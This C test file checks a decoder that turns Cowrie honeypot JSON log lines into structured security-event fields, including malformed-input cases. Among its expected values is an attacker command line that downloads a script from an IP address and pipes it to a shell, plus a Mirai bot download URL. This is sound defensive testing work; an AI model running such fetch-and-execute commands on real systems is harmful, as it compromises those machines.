/*
 * test_ingest_cowrie.c - the Cowrie decoder on cowrie.json lines (the
 * synthetic otori-lab sample in Cowrie's real schema, and generated lines
 * for downloads and uploads following docs/OUTPUT.rst), the ECS fields
 * per event id, and malformed lines.
 */
#include "ingest_testutil.h"

static struct ingest_event ev;
static struct ingest_decode_err de;

static int
dec(const char *line)
{
	return ingest_decode(INGEST_FMT_COWRIE, line, strlen(line), NULL, &ev, &de);
}

static void
assert_str(struct ingest_str s, const char *want)
{
	if (!ingest_str_eq(s, want))
		fail_msg("got \"%.*s\", want \"%s\"", (int)s.len, s.p ? s.p : "", want);
}

static void
assert_same_str(struct ingest_str s, json_t *j)
{
	if (j == NULL) {
		assert_int_equal(s.len, 0);
		return;
	}
	assert_true(json_is_string(j));
	assert_int_equal(s.len, json_string_length(j));
	assert_memory_equal(s.p, json_string_value(j), s.len);
}

/* Every sample line decodes, and each field equals what jansson reads. */
static void
count(const char *line, size_t len, void *arg)
{
	int *kinds = arg;
	if (ingest_decode(INGEST_FMT_COWRIE, line, len, NULL, &ev, &de) != 0)
		fail_msg("does not decode: %s at %zu: %.*s", de.reason, de.offset, (int)len, line);
	kinds[ev.kind]++;
	json_t *j = json_loadb(line, len, 0, NULL);
	assert_non_null(j);
	char ip[64];
	ingest_ip_format(&ev.src_ip, ip, sizeof(ip));
	assert_string_equal(ip, json_string_value(json_object_get(j, "src_ip")));
	assert_int_equal(ev.src_port, json_integer_value(json_object_get(j, "src_port")));
	assert_int_equal(ev.dst_port, json_integer_value(json_object_get(j, "dst_port")));
	assert_same_str(ev.app_proto, json_object_get(j, "protocol"));
	assert_same_str(ev.sensor, json_object_get(j, "sensor"));
	assert_same_str(ev.user_name, json_object_get(j, "username"));
	assert_same_str(ev.command, json_object_get(j, "input"));
	assert_same_str(ev.message, json_object_get(j, "message"));
	int64_t ts;
	assert_int_equal(time_parse_rfc3339(json_string_value(json_object_get(j, "timestamp")), &ts), 0);
	assert_int_equal(ev.ts_ms, ts);
	json_decref(j);
}

static void
test_samples(void **state)
{
	int kinds[INGEST_EV_KIND_COUNT] = {0};
	assert_int_equal(tu_lines("cowrie/otori-synthetic.json", count, kinds), 120);
	/* The sample's counts, by eventid (see tests/data/ingest/README.md). */
	int total = 0;
	for (int k = 0; k < INGEST_EV_KIND_COUNT; k++)
		total += kinds[k];
	assert_int_equal(total, 120);
	assert_true(kinds[INGEST_EV_CONNECT] > 0);
	assert_true(kinds[INGEST_EV_LOGIN_FAILED] > 0);
	assert_true(kinds[INGEST_EV_LOGIN_SUCCESS] > 0);
	assert_true(kinds[INGEST_EV_COMMAND] > 0);
	assert_true(kinds[INGEST_EV_NONE] > 0); /* session.closed */
}

static void
test_fields(void **state)
{
	assert_int_equal(
	    dec("{\"eventid\": \"cowrie.login.failed\", \"src_ip\": \"41.77.145.22\", \"src_port\": 30296, "
	        "\"dst_ip\": \"172.17.0.2\", \"dst_port\": 22, \"session\": \"4c0f5b6349ec\", \"protocol\": "
	        "\"ssh\", \"sensor\": \"db-backup-01\", \"uuid\": \"0a13c400\", \"timestamp\": "
	        "\"2026-02-01T14:17:32.932114Z\", \"username\": \"admin\", \"password\": \"password\", "
	        "\"message\": \"login attempt [admin/password] failed\"}"),
	    0);
	assert_int_equal(ev.kind, INGEST_EV_LOGIN_FAILED);
	assert_str(ev.user_name, "admin");
	assert_str(ev.action, "failure");
	assert_str(ev.proto, "tcp");
	assert_int_equal(ev.src_port, 30296);
	int64_t want;
	assert_int_equal(ingest_ts_parse("2026-02-01T14:17:32.932Z", 24, &want), 0);
	assert_int_equal(ev.ts_ms, want);
	assert_str(ev.message, "login attempt [admin/password] failed");

	size_t len;
	char *text = tu_read("cowrie/generated.json", &len);
	char *line = strtok(text, "\n");
	assert_int_equal(dec(line), 0); /* file_download */
	assert_int_equal(ev.kind, INGEST_EV_DOWNLOAD);
	assert_str(ev.url_full, "http://198.51.100.99:8080/bins/mirai.x86");
	assert_str(ev.url_domain, "198.51.100.99");
	assert_str(ev.url_path, "/bins/mirai.x86");
	assert_str(ev.file_sha256, "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9");
	assert_str(ev.file_name, "mirai.x86");
	assert_int_equal(ev.src_port, 0);
	assert_int_equal(ev.proto.len, 0);

	line = strtok(NULL, "\n"); /* file_upload */
	assert_int_equal(dec(line), 0);
	assert_int_equal(ev.kind, INGEST_EV_DOWNLOAD);
	assert_str(ev.file_name, "x.sh");

	line = strtok(NULL, "\n"); /* command with escapes */
	assert_int_equal(dec(line), 0);
	assert_int_equal(ev.kind, INGEST_EV_COMMAND);
	assert_str(ev.command, "cd /tmp; wget http://198.51.100.99/x -O- | sh; echo \"done\"\t\xc3\xbc");
	assert_str(ev.app_proto, "telnet");
	assert_int_equal(ev.dst_port, 2223);

	line = strtok(NULL, "\n"); /* IPv6, unicode user name */
	assert_int_equal(dec(line), 0);
	assert_int_equal(ev.src_ip.family, 6);
	assert_str(ev.user_name, "r\xc3\xb6\xc3\xb6t");

	line = strtok(NULL, "\n"); /* client.version: not of interest */
	assert_int_equal(dec(line), 0);
	assert_int_equal(ev.kind, INGEST_EV_NONE);
	free(text);

	assert_int_equal(dec("{\"eventid\":\"cowrie.login.success\",\"timestamp\":\"2026-02-01T14:17:32Z\","
	                     "\"src_ip\":\"192.0.2.1\",\"username\":\"root\"}"),
	                 0);
	assert_int_equal(ev.kind, INGEST_EV_LOGIN_SUCCESS);
	assert_str(ev.action, "success");
}

static const struct {
	const char *line;
	const char *reason;
} bad[] = {
	{"{\"timestamp\":\"2026-02-01T14:17:32Z\"}", "no eventid"},
	{"{\"eventid\":\"cowrie.session.connect\"}", "no timestamp"},
	{"{\"eventid\":[],\"timestamp\":\"2026-02-01T14:17:32Z\"}", "eventid is not a string"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01\"}", "bad timestamp"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"src_ip\":\"999.1.1.1\"}", "bad src_ip"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"src_port\":\"22\"}", "bad src_port"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"dst_port\":1e3}", "bad dst_port"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"username\":1}", "username is not a string"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"input\":{}}", "input is not a string"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"input\":\"\xff\"}", "invalid UTF-8 in string"},
	{"{\"eventid\":\"x\",\"timestamp\":\"2026-02-01T14:17:32Z\",\"input\":\"a\\u0000b\"}", "\\u0000 in string"},
	{"{\"eventid\":\"x\"", "truncated JSON"},
	{"not json", "not a JSON object"},
};

static void
test_malformed(void **state)
{
	for (size_t i = 0; i < CIIP_ARRAY_LEN(bad); i++) {
		int rc = dec(bad[i].line);
		if (rc != -1 || strcmp(de.reason, bad[i].reason) != 0)
			fail_msg("case %zu: rc %d reason \"%s\", want \"%s\"", i, rc,
			         de.reason ? de.reason : "(null)", bad[i].reason);
		assert_true(de.offset <= strlen(bad[i].line));
	}
	/* Every prefix of a real line is refused, never read past. */
	const char *l = "{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"2026-02-01T14:17:32Z\","
	                "\"src_ip\":\"192.0.2.1\",\"input\":\"uname -a\"}";
	for (size_t n = 0; n < strlen(l); n++) {
		char *copy = xstrndup(l, n);
		assert_int_equal(ingest_decode(INGEST_FMT_COWRIE, copy, n, NULL, &ev, &de), -1);
		assert_true(de.offset <= n);
		free(copy);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_samples),
		cmocka_unit_test(test_fields),
		cmocka_unit_test(test_malformed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
